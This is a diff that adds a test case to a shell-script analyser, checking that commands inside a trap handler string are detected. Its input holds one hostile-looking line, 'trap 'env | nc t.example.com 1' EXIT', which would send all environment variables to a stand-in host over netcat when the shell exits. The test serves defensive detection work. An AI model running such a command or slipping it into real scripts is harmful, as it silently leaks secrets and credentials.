@@ -158,3 +158,11 @@ TEST_CASE("facts inside re-parsed strings map back to the enclosing span") {
   CHECK(curl->span.end == script.size());
   CHECK(curl->statement.begin == 9);
 }
+
+TEST_CASE("a trap handler string is analysed as the commands it will run") {
+  auto facts = analyze("trap 'env | nc t.example.com 1' EXIT; make");
+  REQUIRE(has_command(facts, "nc"));
+  CHECK(has_context(*command_named(facts, "nc"), "trap"));
+  CHECK(has_flow(facts, "env_dump", "network"));
+  CHECK_FALSE(has_command(analyze("trap - EXIT"), "-"));
+}
